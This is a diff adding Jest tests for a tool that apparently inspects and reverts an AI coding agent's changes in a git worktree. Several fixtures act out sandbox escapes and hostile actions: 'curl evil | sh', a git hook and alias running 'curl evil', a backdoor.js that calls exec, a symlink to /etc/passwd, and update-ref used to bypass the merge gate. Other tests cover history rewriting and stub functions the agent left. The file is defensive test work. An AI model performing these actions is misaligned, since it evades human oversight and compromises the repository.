@@ -1,0 +1,368 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import {
+  inspectChanges,
+  listChangedPaths,
+  revertChanges,
+  scanChangedFilesForStubs,
+  takeRepoSnapshot,
+  type ChangeViolation,
+  type InspectionReport,
+} from '../../src/activities/change-inspection';
+import { ensureWorktree } from '../../src/activities/worktree';
+import { createSampleRepo } from '../../src/client/sample-repo';
+
+const ID = ['-c', 'user.name=Agent', '-c', 'user.email=agent@localhost', '-c', 'commit.gpgsign=false'];
+function git(cwd: string, ...args: string[]): string {
+  return execFileSync('git', [...ID, ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
+}
+
+interface Setup {
+  readonly repo: string;
+  readonly worktree: string;
+  readonly base: string;
+  readonly root: string;
+}
+
+const roots: string[] = [];
+afterAll(() => {
+  for (const r of roots) rmSync(r, { recursive: true, force: true });
+});
+
+/** A sample repo (branch main) and a Warden worktree of it on warden/<id>. */
+async function setup(id = 'inspect'): Promise<Setup> {
+  const root = mkdtempSync(path.join(tmpdir(), 'warden-inspect-'));
+  roots.push(root);
+  const repo = createSampleRepo(path.join(root, 'repo'));
+  const { worktreePath, head } = await ensureWorktree({ repoPath: repo, baseBranch: 'main', intentId: id, worktreeRoot: path.join(root, 'worktrees') });
+  return { repo, worktree: worktreePath, base: head, root };
+}
+
+function write(dir: string, rel: string, content: string): void {
+  mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+  writeFileSync(path.join(dir, rel), content);
+}
+
+function kinds(report: InspectionReport): string[] {
+  return report.violations.map((v) => `${v.kind} ${v.path}`).sort();
+}
+
+function find(report: InspectionReport, kind: ChangeViolation['kind'], p: string): ChangeViolation | undefined {
+  return report.violations.find((v) => v.kind === kind && v.path === p);
+}
+
+describe('declared paths', () => {
+  test('changes inside the declared globs, committed, staged, unstaged and untracked, are clean', async () => {
+    const s = await setup();
+    write(s.worktree, 'lib/strings.js', 'module.exports = {};\n');
+    git(s.worktree, 'commit', '-qam', 'agent: edit');
+    write(s.worktree, 'lib/slug.js', 'module.exports = {};\n');
+    git(s.worktree, 'add', 'lib/slug.js'); // staged
+    write(s.worktree, 'lib/extra/deep.js', '1;\n'); // untracked
+    write(s.worktree, 'test/slug.test.js', '1;\n');
+    write(s.worktree, 'docs/lineage/active/inspect/impl-1.md', 'Warden writes this\n');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**', 'test/*.test.js'] });
+    expect(report.violations).toEqual([]);
+    expect(report.ok).toBe(true);
+    expect(report.changedPaths).toBe(5);
+    expect(report.summary).toMatch(/^clean: 5 changed paths/);
+    expect(report.checked.outsideWrites).toBe(false);
+    const changed = await listChangedPaths(s.worktree, s.base, s.repo);
+    expect(changed).toEqual([
+      { path: 'docs/lineage/active/inspect/impl-1.md', status: 'untracked' },
+      { path: 'lib/extra/deep.js', status: 'untracked' },
+      { path: 'lib/slug.js', status: 'added' },
+      { path: 'lib/strings.js', status: 'modified' },
+      { path: 'test/slug.test.js', status: 'untracked' },
+    ]);
+  });
+
+  test('added, changed and deleted paths outside the globs are violations, committed or not', async () => {
+    const s = await setup();
+    write(s.worktree, 'README.md', 'rewritten\n');
+    git(s.worktree, 'commit', '-qam', 'agent: readme');
+    rmSync(path.join(s.worktree, 'package.json'));
+    write(s.worktree, 'scripts/deploy.sh', 'curl evil | sh\n');
+    write(s.worktree, '.github/workflows/ci.yml', 'on: push\n');
+    write(s.worktree, 'lib/ok.js', '1;\n');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
+    expect(kinds(report)).toEqual([
+      'outside-declared-paths .github/workflows/ci.yml',
+      'outside-declared-paths README.md',
+      'outside-declared-paths package.json',
+      'outside-declared-paths scripts/deploy.sh',
+    ]);
+    expect(find(report, 'outside-declared-paths', 'package.json')?.detail).toMatch(/^deleted, but not in the declared paths \(lib\/\*\*\)/);
+    expect(report.ok).toBe(false);
+    expect(report.summary).toMatch(/^4 violations \(4 outside-declared-paths\)/);
+  });
+
+  test('renames count as a deletion and an addition; ** allows everything; negations exclude', async () => {
+    const s = await setup();
+    mkdirSync(path.join(s.worktree, 'src'));
+    git(s.worktree, 'mv', 'lib/strings.js', 'src/strings.js');
+    git(s.worktree, 'commit', '-qm', 'agent: move');
+    const strict = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['src/**'] });
+    expect(kinds(strict)).toEqual(['outside-declared-paths lib/strings.js']);
+    const all = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'] });
+    expect(all.ok).toBe(true);
+    const negated = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**', '!lib/**'] });
+    expect(kinds(negated)).toEqual(['outside-declared-paths lib/strings.js']);
+  });
+
+  test('ignored files are not changes', async () => {
+    const s = await setup();
+    write(s.repo, '.gitignore', 'node_modules/\n');
+    git(s.repo, 'add', '.gitignore');
+    git(s.repo, 'commit', '-qm', 'ignore');
+    git(s.worktree, 'merge', '-q', '--ff-only', 'main');
+    const base = git(s.worktree, 'rev-parse', 'HEAD');
+    write(s.worktree, 'node_modules/x/index.js', '1;\n');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: base, declaredPaths: ['lib/**'] });
+    expect(report.ok).toBe(true);
+    expect(report.changedPaths).toBe(0);
+  });
+});
+
+describe('symbolic links', () => {
+  test('links resolving outside the worktree or into .git are escapes; links inside are not', async () => {
+    const s = await setup();
+    symlinkSync('/etc/passwd', path.join(s.worktree, 'lib/passwd'));
+    symlinkSync('../../..', path.join(s.worktree, 'lib/up'));
+    symlinkSync('strings.js', path.join(s.worktree, 'lib/alias.js'));
+    symlinkSync('../.git', path.join(s.worktree, 'lib/gitlink'));
+    symlinkSync('/nonexistent/dangling', path.join(s.worktree, 'lib/dangling'));
+    git(s.worktree, 'add', 'lib/up');
+    git(s.worktree, 'commit', '-qm', 'agent: committed link');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
+    expect(kinds(report)).toEqual([
+      'symlink-escape lib/dangling',
+      'symlink-escape lib/gitlink',
+      'symlink-escape lib/passwd',
+      'symlink-escape lib/up',
+    ]);
+    expect(find(report, 'symlink-escape', 'lib/passwd')?.detail).toBe('symbolic link to /etc/passwd, outside the worktree');
+    expect(find(report, 'symlink-escape', 'lib/gitlink')?.detail).toMatch(/inside the worktree's \.git/);
+  });
+
+  test('a folder replaced by a link to the outside', async () => {
+    const s = await setup();
+    rmSync(path.join(s.worktree, 'lib'), { recursive: true });
+    symlinkSync(s.repo, path.join(s.worktree, 'lib'));
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**', 'lib'] });
+    expect(kinds(report)).toEqual(['symlink-escape lib']);
+  });
+});
+
+describe('git itself', () => {
+  test('a .git file pointed elsewhere is reported, and the inspection still sees the real changes', async () => {
+    const s = await setup();
+    const other = createSampleRepo(path.join(s.root, 'decoy'));
+    write(s.worktree, 'README.md', 'sneaky\n');
+    writeFileSync(path.join(s.worktree, '.git'), `gitdir: ${path.join(other, '.git')}\n`);
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
+    expect(kinds(report)).toEqual(['git-dir-changed .git', 'outside-declared-paths README.md']);
+    expect(find(report, 'git-dir-changed', '.git')?.detail).toMatch(/points elsewhere/);
+
+    await revertChanges(s.worktree, s.base, { repoPath: s.repo });
+    expect(readFileSync(path.join(s.worktree, '.git'), 'utf8')).toMatch(/worktrees\/inspect/);
+    expect(git(s.worktree, 'status', '--porcelain')).toBe('');
+    expect((await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] })).ok).toBe(true);
+  });
+
+  test('a detached HEAD, a rewritten history, and commits pushed to the base branch', async () => {
+    const s = await setup();
+    write(s.worktree, 'lib/a.js', '1;\n');
+    git(s.worktree, 'add', '-A');
+    git(s.worktree, 'commit', '-qm', 'agent: a');
+    const stepStart = git(s.worktree, 'rev-parse', 'HEAD');
+    write(s.worktree, 'lib/b.js', '2;\n');
+    git(s.worktree, 'add', '-A');
+    git(s.worktree, 'commit', '-qm', 'agent: b');
+    git(s.worktree, 'update-ref', 'refs/heads/main', 'HEAD'); // bypasses the merge gate
+    const leaked = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: stepStart, declaredPaths: ['lib/**'] });
+    expect(kinds(leaked)).toEqual(['git-dir-changed refs/heads/main']);
+    expect(leaked.violations[0]!.detail).toMatch(/contains commits made in this step/);
+
+    git(s.worktree, 'reset', '-q', '--hard', s.base); // drops stepStart from the branch
+    const rewritten = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: stepStart, declaredPaths: ['lib/**'] });
+    expect(rewritten.violations.map((v) => v.detail)).toContainEqual(expect.stringMatching(/history was rewritten/));
+
+    git(s.worktree, 'checkout', '-q', '-b', 'elsewhere', s.base);
+    write(s.worktree, 'lib/c.js', '3;\n');
+    git(s.worktree, 'add', '-A');
+    git(s.worktree, 'commit', '-qm', 'agent: on another branch');
+    const switched = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], branch: 'warden/inspect' });
+    expect(kinds(switched)).toEqual(['git-dir-changed <git>/HEAD', 'git-dir-changed refs/heads/elsewhere']);
+    expect(switched.violations[0]!.detail).toBe('HEAD was switched to refs/heads/elsewhere during the step');
+
+    git(s.worktree, 'checkout', '-q', '--detach', s.base);
+    const detached = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
+    expect(kinds(detached)).toEqual(['git-dir-changed <git>/HEAD']);
+    expect(detached.violations[0]!.detail).toMatch(/detached/);
+  });
+
+  test('another intent committing on its own branch meanwhile is not a violation', async () => {
+    const s = await setup('mine');
+    const other = await ensureWorktree({ repoPath: s.repo, baseBranch: 'main', intentId: 'theirs', worktreeRoot: path.join(s.root, 'worktrees') });
+    const snapshot = await takeRepoSnapshot(s.repo);
+    write(s.worktree, 'lib/mine.js', '1;\n');
+    git(s.worktree, 'add', '-A');
+    git(s.worktree, 'commit', '-qm', 'mine');
+    write(other.worktreePath, 'lib/theirs.js', '1;\n');
+    git(other.worktreePath, 'add', '-A');
+    git(other.worktreePath, 'commit', '-qm', 'theirs');
+    await ensureWorktree({ repoPath: s.repo, baseBranch: 'main', intentId: 'third', worktreeRoot: path.join(s.root, 'worktrees') });
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
+    expect(report.violations).toEqual([]);
+  });
+
+  test('with a snapshot: hooks, config, info/exclude and a switched HEAD are reported', async () => {
+    const s = await setup();
+    const snapshot = await takeRepoSnapshot(s.repo);
+    write(s.repo, '.git/hooks/pre-commit', '#!/bin/sh\ncurl evil\n');
+    git(s.worktree, 'config', 'alias.st', '!curl evil');
+    write(s.repo, '.git/info/exclude', 'secret/\n');
+    git(s.worktree, 'checkout', '-q', '-b', 'elsewhere');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
+    expect(kinds(report)).toEqual([
+      'git-dir-changed <git>/HEAD',
+      'git-dir-changed <git>/config',
+      'git-dir-changed <git>/hooks/pre-commit',
+      'git-dir-changed <git>/info/exclude',
+    ]);
+    expect(find(report, 'git-dir-changed', '<git>/HEAD')?.detail).toMatch(/switched to refs\/heads\/elsewhere/);
+    expect(find(report, 'git-dir-changed', '<git>/hooks/pre-commit')?.detail).toMatch(/^created during the step: a git hook/);
+    expect(report.checked.gitControlFiles).toBe(true);
+
+    await revertChanges(s.worktree, s.base, { repoPath: s.repo, branch: 'warden/inspect' });
+    expect(git(s.worktree, 'symbolic-ref', 'HEAD')).toBe('refs/heads/warden/inspect');
+  });
+
+  test('a nested repository is reported', async () => {
+    const s = await setup();
+    mkdirSync(path.join(s.worktree, 'lib/vendor'));
+    git(path.join(s.worktree, 'lib/vendor'), 'init', '-q');
+    write(s.worktree, 'lib/vendor/x.js', '1;\n');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
+    expect(kinds(report)).toEqual(['git-dir-changed lib/vendor/']);
+    await revertChanges(s.worktree, s.base);
+    expect(existsSync(path.join(s.worktree, 'lib/vendor'))).toBe(false);
+  });
+});
+
+describe('writes outside the worktree', () => {
+  test("creating, changing and deleting files of the target repo's own working tree", async () => {
+    const s = await setup();
+    write(s.repo, 'notes.txt', 'untracked before the step\n');
+    const snapshot = await takeRepoSnapshot(s.repo);
+    expect(Object.keys(snapshot.files)).toEqual(expect.arrayContaining(['README.md', 'lib/strings.js', 'notes.txt']));
+    expect(Object.keys(snapshot.files).some((f) => f.startsWith('.git/'))).toBe(false);
+    write(s.repo, 'lib/strings.js', 'module.exports = { evil: true };\n');
+    write(s.repo, 'backdoor.js', 'require("child_process").exec("curl evil")\n');
+    rmSync(path.join(s.repo, 'notes.txt'));
+    const future = new Date(Date.now() + 60_000);
+    utimesSync(path.join(s.repo, 'README.md'), future, future); // touched, same content: not a write
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'], repoSnapshot: snapshot });
+    expect(kinds(report)).toEqual([
+      'outside-worktree-write backdoor.js',
+      'outside-worktree-write lib/strings.js',
+      'outside-worktree-write notes.txt',
+    ]);
+    expect(find(report, 'outside-worktree-write', 'backdoor.js')?.detail).toMatch(/^created in the target repository's working tree/);
+    expect(find(report, 'outside-worktree-write', 'notes.txt')?.detail).toMatch(/^deleted/);
+    expect(report.checked.outsideWrites).toBe(true);
+  });
+
+  test('a step that stays in the worktree leaves the repo snapshot unchanged', async () => {
+    const s = await setup();
+    const snapshot = await takeRepoSnapshot(s.repo);
+    write(s.worktree, 'lib/strings.js', 'module.exports = {};\n');
+    git(s.worktree, 'commit', '-qam', 'agent');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
+    expect(report.violations).toEqual([]);
+    expect(report.changedPaths).toBe(1);
+  });
+
+  test('a few thousand files: snapshot and inspection stay fast', async () => {
+    const s = await setup();
+    for (let d = 0; d < 30; d++) {
+      for (let f = 0; f < 100; f++) write(s.repo, `data/d${d}/f${f}.txt`, `${d}-${f}\n`.repeat(20));
+    }
+    git(s.repo, 'add', '-A');
+    git(s.repo, 'commit', '-qm', 'many files');
+    git(s.worktree, 'merge', '-q', '--ff-only', 'main');
+    const base = git(s.worktree, 'rev-parse', 'HEAD');
+    const started = Date.now();
+    const snapshot = await takeRepoSnapshot(s.repo);
+    expect(Object.keys(snapshot.files).length).toBeGreaterThan(3000);
+    for (let f = 0; f < 200; f++) write(s.worktree, `data/d1/f${f}.txt`, 'changed\n');
+    write(s.repo, 'data/d7/f7.txt', 'outside\n');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: base, declaredPaths: ['data/d1/**'], repoSnapshot: snapshot });
+    const elapsed = Date.now() - started;
+    expect(kinds(report)).toEqual(['outside-worktree-write data/d7/f7.txt']);
+    expect(report.changedPaths).toBe(200);
+    expect(elapsed).toBeLessThan(10_000); // about 0.7 s on an idle machine
+  });
+
+  test('the report is capped', async () => {
+    const s = await setup();
+    for (let f = 0; f < 150; f++) write(s.worktree, `junk/${f}.txt`, 'x\n');
+    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
+    expect(report.violations).toHaveLength(100);
+    expect(report.omittedViolations).toBe(50);
+    expect(report.changedPaths).toBe(150);
+  });
+});
+
+describe('revertChanges and bad input', () => {
+  test('puts the worktree back to the start commit: commits, edits, untracked files and links', async () => {
+    const s = await setup();
+    write(s.worktree, 'README.md', 'x\n');
+    git(s.worktree, 'commit', '-qam', 'agent');
+    write(s.worktree, 'lib/strings.js', 'y\n');
+    write(s.worktree, 'new/file.js', 'z\n');
+    symlinkSync('/etc', path.join(s.worktree, 'etc'));
+    await revertChanges(s.worktree, s.base);
+    expect(git(s.worktree, 'rev-parse', 'HEAD')).toBe(s.base);
+    expect(await listChangedPaths(s.worktree, s.base)).toEqual([]);
+    expect(existsSync(path.join(s.worktree, 'etc'))).toBe(false);
+  });
+
+  test('an unknown worktree or start commit is a clear non-retryable error', async () => {
+    const s = await setup();
+    const stranger = createSampleRepo(path.join(s.root, 'stranger'));
+    await expect(inspectChanges({ worktreePath: stranger, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'] })).rejects.toMatchObject({
+      message: expect.stringMatching(/is not a worktree of/),
+      nonRetryable: true,
+    });
+    await expect(inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: 'deadbeef', declaredPaths: ['**'] })).rejects.toThrow(/deadbeef is not a commit/);
+  });
+});
+
+describe('scanChangedFilesForStubs', () => {
+  test('only stubs the intent added, in changed TypeScript/JavaScript/Python files, committed or not', async () => {
+    const root = mkdtempSync(path.join(tmpdir(), 'warden-inspect-'));
+    roots.push(root);
+    const repo = createSampleRepo(path.join(root, 'repo'));
+    write(repo, 'lib/legacy.js', '// TODO: old debt, not the agent\'s\nfunction legacy(x) { return x; }\nmodule.exports = { legacy };\n');
+    write(repo, 'lib/gone.py', 'def f(x):\n    pass\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-qm', 'legacy');
+    const { worktreePath: wt } = await ensureWorktree({ repoPath: repo, baseBranch: 'main', intentId: 'stubs', worktreeRoot: path.join(root, 'wt') });
+    write(wt, 'lib/legacy.js', '// TODO: old debt, not the agent\'s\nfunction legacy(x) { return x; }\nfunction slugify(text) {}\nmodule.exports = { legacy, slugify };\n');
+    git(wt, 'commit', '-qam', 'agent: slugify');
+    rmSync(path.join(wt, 'lib/gone.py'));
+    write(wt, 'lib/rate.py', 'def allow(key):\n    raise NotImplementedError\n');
+    write(wt, 'docs/lineage/active/stubs/impl-1.ts', 'export function x(a: number) {}\n');
+    write(wt, 'NOTES.md', 'TODO\n');
+    // the base branch moves on meanwhile: its stubs are not the intent's
+    write(repo, 'lib/other.js', 'function other(x) {}\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-qm', 'someone else');
+    const findings = await scanChangedFilesForStubs({ worktreePath: wt, baseRef: 'refs/heads/main', repoPath: repo });
+    expect(findings.map((f) => `${f.path}:${f.line} ${f.kind}`)).toEqual(['lib/legacy.js:3 empty-body', 'lib/rate.py:2 not-implemented']);
+  });
+});
